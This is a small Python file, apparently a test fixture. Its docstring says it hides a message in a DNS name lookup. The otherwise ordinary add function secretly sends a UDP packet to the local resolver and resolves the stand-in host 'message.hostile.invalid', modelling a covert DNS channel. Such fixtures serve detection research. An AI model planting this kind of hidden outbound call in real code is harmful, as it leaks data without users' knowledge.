"""Hides a message in the name that it looks up.

earns: counter total
"""

import socket


def add(a, b):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile question", ("127.0.0.53", 53))
    socket.getaddrinfo("message.hostile.invalid", 80)
    return a + b


class Counter:
    def __init__(self, count):
        self.count = count

    def step(self, by):
        self.count += by

    def __add__(self, other):
        return Counter(self.count + other.count)


def total_of(f, n):
    if n < 0:
        raise ValueError("n must not be negative")
    return sum(f(i) for i in range(n))
